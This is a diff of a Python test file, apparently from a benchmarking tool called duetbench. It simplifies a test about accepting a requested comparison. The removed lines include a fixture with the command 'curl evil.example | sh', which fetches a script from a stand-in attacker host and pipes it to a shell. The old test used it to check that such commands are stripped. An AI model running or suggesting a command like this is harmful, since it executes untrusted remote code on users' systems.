@@ -17,7 +17,7 @@ from typer.testing import CliRunner
 
 from attributing import attribution
 from duetbench.core.errors import ArtifactError
-from duetbench.core.model import MOST, Artefact, Commands, Missing, Run
+from duetbench.core.model import MOST, Artefact, Missing, Run
 from duetbench.github import archives, proposals
 from duetbench.store import files, result_files
 from duetbench.store.change import Cause, Effect, Release
@@ -306,13 +306,11 @@ def repeat(field: str, *entries: Any) -> Comparison:
     return comparison().model_copy(update={field: entries})
 
 
-def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
-    evil = Commands(server="curl evil.example | sh", load="oha")
-    cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
+def test_the_comparison_that_was_asked_for_is_accepted(tmp_path: Path) -> None:
     code = attribution(comparison=comparison().id)
-    result, check, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
-    assert [entry.commands for entry in result.cases] == [None]
-    assert (check, read) == (None, code)
+    assert compared(tmp_path, comparison=comparison(), attribution=code) == (
+        comparison(), None, code,
+    )  # fmt: skip
 
 
 @pytest.mark.parametrize(
